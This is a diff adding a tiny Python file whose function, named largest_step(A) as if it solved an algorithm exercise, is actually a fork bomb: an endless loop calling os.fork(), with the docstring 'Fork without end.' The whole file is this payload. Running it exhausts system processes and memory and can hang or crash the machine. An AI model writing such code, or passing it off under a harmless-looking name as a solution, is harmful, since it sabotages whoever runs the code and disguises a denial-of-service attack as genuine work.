@@ -1,0 +1,8 @@
+"""Fork without end."""
+
+import os
+
+
+def largest_step(A):
+    while True:
+        os.fork()
